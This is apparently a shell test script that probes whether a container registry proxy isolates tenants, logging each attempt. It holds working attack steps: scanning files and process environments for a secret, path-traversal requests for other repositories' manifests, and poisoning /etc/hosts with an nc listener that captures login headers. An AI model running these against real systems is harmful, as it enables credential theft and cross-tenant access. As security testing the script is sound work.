# What somebody might try who can write a Dockerfile. Each attempt says what it got in a line `[attempt] answer`.
host=$1 port=$2 other=$3 own=$4 blob=$5 tag=$6
proxy=46117

# The status of the answer to METHOD TARGET [BODY] from ADDRESS PORT, or `refused`.
ask() {
  body=$5
  # A connection that is half closed gets no answer.
  { printf '%s %s HTTP/1.1\r\nHost: registry\r\nContent-Type: application/vnd.oci.image.manifest.v1+json\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' \
    "$3" "$4" "${#body}" "$body"; sleep 0.5; } | timeout 10 nc "$1" "$2" > /tmp/answer 2> /tmp/error
  status=$(head -n 1 /tmp/answer | cut -d ' ' -f 2 | tr -d '\r')
  echo "${status:-refused}"
}
through() { ask 127.0.0.1 "$proxy" "$@"; }

rev /secret-reversed > /tmp/secret
folders=$(ls -d /* | grep -vE '^/(proc|sys|dev)$')
found=$(grep -rlsFf /tmp/secret $folders | grep -v '^/tmp/secret$' | tr '\n' ' ')
echo "[files with the password] ${found% }"
echo "[processes with the password] $(cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/mountinfo 2> /dev/null | tr '\0' '\n' | grep -cFf /tmp/secret)"

echo "[own manifest] $(through GET /v2/$own/manifests/none)"
echo "[catalog] $(through GET /v2/_catalog)"
echo "[tags of another] $(through GET /v2/$other/tags/list)"
echo "[manifest of another] $(through GET /v2/$other/manifests/private)"
echo "[manifest of another, by a detour] $(through GET /v2/$own/../other/manifests/private)"
echo "[manifest of another, encoded] $(through GET /v2/$own/%2e%2e/other/manifests/private)"
echo "[layer of another] $(through GET /v2/$other/blobs/$blob)"
echo "[push to another] $(through PUT /v2/$other/manifests/stolen '{}')"
echo "[upload to another] $(through POST /v2/$other/blobs/uploads/)"
echo "[another tag] $(through PUT /v2/$own/manifests/stolen '{}')"
echo "[delete own] $(through DELETE /v2/$own/manifests/$tag)"
echo "[upload to own] $(through POST /v2/$own/blobs/uploads/)"
echo "[take over a layer of another] $(through POST "/v2/$own/blobs/uploads/?mount=$blob&from=$other")"
echo "[the registry itself] $(ask "$host" "$port" GET /v2/$other/manifests/private)"
echo "[the proxy from outside the pod] $(ask "$(hostname -i)" "$proxy" GET /v2/)"

# Containers of a pod share the host file: now the registry's name leads to this container.
printf '#!/bin/sh\ntimeout 1 cat >> /tmp/stolen\nprintf "HTTP/1.1 200 thief\\r\\nContent-Length: 0\\r\\n\\r\\n"\n' > /tmp/thief
chmod 755 /tmp/thief
touch /tmp/stolen
nc -ll -p "$port" -e /tmp/thief &
sleep 1
echo "127.0.0.1 $host" >> /etc/hosts
ask "$host" "$port" GET / > /dev/null
echo "[a host file of its own] $(head -n 1 /tmp/answer | cut -d ' ' -f 3 | tr -d '\r')"
# Several at once, so that connections which the proxy holds open are not enough.
for part in 1 2 3 4 5 6; do
  (
    mkdir -p /tmp/$part
    { printf 'GET /v2/%s/manifests/none HTTP/1.1\r\nHost: registry\r\nConnection: close\r\n\r\n' "$own"; sleep 2; } |
      timeout 10 nc 127.0.0.1 "$proxy" | head -n 1 | cut -d ' ' -f 2 > /tmp/$part/answer
  ) &
  parts="$parts $!"
done
wait $parts
echo "[own manifest after that] $(cat /tmp/*/answer | sort -u)"
rm -rf /tmp/[1-6]
echo "[logins sent to the thief] $(grep -ci authorization /tmp/stolen)"
kill %1 2> /dev/null || true
rm -f /tmp/answer /tmp/error /tmp/secret /tmp/stolen /tmp/thief
